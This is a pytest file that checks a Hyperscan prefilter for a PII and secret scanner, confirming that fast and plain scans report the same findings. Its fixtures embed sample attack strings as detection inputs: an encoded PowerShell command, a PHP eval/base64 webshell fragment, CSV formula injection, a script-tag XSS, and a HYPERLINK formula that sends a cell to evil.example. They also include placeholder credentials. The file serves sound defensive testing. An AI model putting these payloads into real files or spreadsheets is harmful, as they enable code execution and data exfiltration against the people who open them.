"""The security scan's Hyperscan prefilter (conveyor.packs.workbench.prefilter) changes how
fast a scan is, never what it finds: the scan through the prefilter and the plain scan of the
whole text give the same report, on the test files, on the PII corpus, on a generated log with
planted findings, on matches that span lines, on Unicode case folds and digits, on bytes that
are not UTF-8 and on random mixtures of all of these."""

from __future__ import annotations

import random
import re
from pathlib import Path

import pytest

from bench.pii_corpus import corpus
from bench.workloads import write_scan_file
from conveyor.packs.workbench import prefilter, scan
from conveyor.packs.workbench.prefilter import Prefilter

pytest.importorskip("hyperscan")
# Compiling the prefilter takes ~8 s of CPU and the plain path ~3.5 s per MB: a loaded machine
# stretches both past the default timeout.
pytestmark = pytest.mark.timeout(900)

DATA = Path(__file__).parent / "data"
AWS_KEY = "AKIA" + "Z7Q2X4M9W3K8P5N6"

# Matches that span a line end, case folds and Unicode digits/spaces Python's `re` accepts,
# findings on the first and the last line, CRLF, tabs and blank lines.
TRICKY = [
    "SSN\n\n\n123456789 was given on the phone",
    "call +1 555\n123 4567 or +44 20\n7946 0958 today",
    "Lives at 12 Main Street\nSpringfield, IL 62704",
    "Unit 4512, Box 1234\nAPO AE 09012",
    "Patient\nJohn Smith was seen",
    "password =\n  hunter2hunter2",
    "aws_secret_access_\u212aey = " + "A" * 40,
    "\u017fecret: abcdefghijklmn",
    "S\u017fN 123456789 and \u0130BAN",
    "SSN: \u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669",
    "SSN:\u00a0123456789 and DOB\u2003: 01/02/1980",
    "born on\nMarch 3, 1975",
    "MRN\n  A12345 then medical record #\tB-99881",
    "powershell.exe -NoProfile -enc " + "QUJD" * 8,
    "eval(\n base64_decode($x)) and $_POST['a']",
    'a,b\n=HYPERLINK("x")\n+cmd|/c calc\n\t@SUM(A1)',
    "<ScRiPt>alert(1)</script> javascript:void(0)",
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "https://user:s3cr3tpass@example.com/x and ghp_" + "a" * 36,
    "token eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.SflKxwRJSMeKKF2QT4",
    "ip 10.0.0.1, fe80::1ff:fe23:4567:890a and 2001:db8::1\r\nnext line\r\n",
    "Dr. Jane\nRoe, Jr. and Mr. \u00c9mile Zola",
    "4111 1111 1111 1111 and 4111-1111-1111-1112 and GB82 WEST 1234 5698 7654 32",
    "xoxb-1234567890-abcdef sk_live_" + "b" * 24 + " AIza" + "c" * 35,
    "-----BEGIN OPENSSH PRIVATE KEY-----",
    "\n\n\n",
    "",
]


@pytest.fixture(scope="module")
def fast(tmp_path_factory: pytest.TempPathFactory) -> Prefilter:
    built = scan.rules_prefilter(tmp_path_factory.mktemp("prefilter-cache"))
    assert built is not None, "the prefilter did not compile"
    return built


def both_ways(path: Path) -> dict[str, object]:
    fast_report = scan.scan_file(path, full=True, frameworks=list(scan.FRAMEWORKS), fast=True)
    plain_report = scan.scan_file(path, full=True, frameworks=list(scan.FRAMEWORKS), fast=False)
    assert fast_report == plain_report
    return fast_report


def test_every_python_match_has_a_candidate_that_covers_it(fast: Prefilter) -> None:
    texts = [*TRICKY, *(p.text for p in corpus(120, seed=5))]
    for text in texts:
        data = prefilter.as_bytes(text)
        assert len(data) == len(text)
        hits: list[tuple[int, int]] = []
        fast.database.scan(data, match_event_handler=lambda _i, s, e, _f, found: found.append((s, e)), context=hits)
        for pattern in scan.rule_patterns():
            for m in pattern.finditer(text):
                if m.end() > m.start():
                    assert any(s <= m.start() and e == m.end() for s, e in hits), (pattern.pattern, text, m)


def test_the_translation_keeps_exactly_the_ascii_characters_python_accepts() -> None:
    translated = prefilter.translate(re.compile(r"(?i)\bk[^\s,]{2}\d"))
    assert translated == r"[\x4b\x6b\x84](?:[\x00-\x08\x0e-\x1b\x21-\x2b\x2d-\xff]){2,2}[\x30-\x39\x80-\xff]"
    # a leading one-character negative lookbehind becomes "start or another character"
    assert prefilter.translate(re.compile(r"(?<![\d.])7")).startswith(r"(?:^|[^\x2e\x30-\x39])")
    with pytest.raises(prefilter.Untranslatable):
        prefilter.translate(re.compile(r"(a)\1"))


def test_the_test_files_and_tricky_texts_scan_alike(tmp_path: Path, fast: Prefilter) -> None:
    uci = both_ways(DATA / "uci_yelp_labelled.tsv")
    assert uci["findings"]
    tricky = tmp_path / "tricky.txt"
    tricky.write_text("\n".join(TRICKY), encoding="utf-8")
    report = both_ways(tricky)
    rules = {f["rule"] for f in report["findings"]}
    assert {"pii.ssn", "pii.phone", "pii.address", "secret.password_assignment", "secret.aws_secret_key"} <= rules
    assert {"danger.powershell_encoded", "danger.php_eval", "danger.eicar_test_file"} <= rules
    customers = tmp_path / "customers.csv"
    customers.write_text(
        "name,email,note\nAnn,ann.lee@example.com,paid with 4111111111111111\n"
        f"Bob,bob@example.org,aws_access_key_id={AWS_KEY}\n"
        'Eve,eve@example.net,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
    )
    assert len(both_ways(customers)["findings"]) >= 5


def test_bytes_that_are_not_utf8_scan_alike(tmp_path: Path, fast: Prefilter) -> None:
    path = tmp_path / "mixed.log"
    path.write_bytes(b"caf\xe9 ann@example.com\n\xff\xfe SSN 123-45-6789\nplain line\n" + "\u212a\n".encode())
    report = both_ways(path)
    assert {"encoding.invalid_utf8", "pii.email", "pii.ssn"} <= {f["rule"] for f in report["findings"]}


def test_a_generated_log_scans_alike_and_mostly_skipped(tmp_path: Path, fast: Prefilter) -> None:
    path = tmp_path / "scan.log"
    write_scan_file(path, 1.2)
    report = both_ways(path)
    assert len(report["findings"]) >= 3
    data = path.read_bytes()
    newlines = [m.start() for m in re.finditer(b"\n", data)]
    windows = fast.windows(data, newlines)
    assert sum(b - a + 1 for a, b in windows) < len(newlines) / 100  # only the planted lines are read


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_random_mixtures_scan_alike(tmp_path: Path, seed: int, fast: Prefilter) -> None:
    rng = random.Random(seed)
    pieces = [*TRICKY, *(p.text for p in corpus(60, seed=seed))]
    pieces += [f"2024-05-01T12:{n % 60:02d}:00Z INFO request {n} served in {n % 97} ms" for n in range(40)]
    noise = ["\n", " ", "\t", ",", "\u212a", "\u0661", "\u00e9", "\u00a0", "-", ":", "@", "+1 "]
    lines = []
    for _ in range(400):
        text = rng.choice(pieces)
        if text and rng.random() < 0.5:
            at = rng.randrange(len(text))
            text = text[:at] + rng.choice(noise) + text[at:]
        lines.append(text)
    path = tmp_path / "mixture.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    assert both_ways(path)["findings"]


def test_without_hyperscan_the_scan_takes_the_plain_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "hyperscan", None)  # `import hyperscan` fails
    assert Prefilter.build(scan.rule_patterns()) is None
    assert "hyperscan is not available" in caplog.text
    monkeypatch.setattr(scan, "_PREFILTER", [])
    path = tmp_path / "a.txt"
    path.write_text(f"key {AWS_KEY}\n")
    report = scan.scan_file(path, full=True, frameworks=["SOC 2"], fast=True)
    assert [f["rule"] for f in report["findings"]] == ["secret.aws_access_key"]


def test_the_compile_runs_in_a_helper_process_and_falls_back_to_this_one(monkeypatch: pytest.MonkeyPatch) -> None:
    import hyperscan

    patterns = [re.compile(r"\bAKIA[0-9A-Z]{16}\b"), re.compile(r"(?i)<script\b")]
    seen: list[tuple[int, int]] = []

    def found(serialized: bytes) -> list[tuple[int, int]]:
        database = hyperscan.loadb(serialized, hyperscan.HS_MODE_BLOCK)
        database.scratch = hyperscan.Scratch(database)
        seen.clear()
        database.scan(f"x {AWS_KEY} <SCRIPT>".encode(), match_event_handler=lambda *m: seen.append(m[1:3]))
        return sorted(set(seen))

    expected = [(2, 22), (23, 30)]
    assert found(prefilter.compile_elsewhere(patterns)) == expected
    with pytest.raises(prefilter.CompileFailed):  # a back-reference has no Hyperscan superset
        prefilter.compile_elsewhere([re.compile(r"(a)\1")])
    monkeypatch.setattr(prefilter.sys, "executable", "/nonexistent/python")
    assert found(prefilter.compile_elsewhere(patterns)) == expected
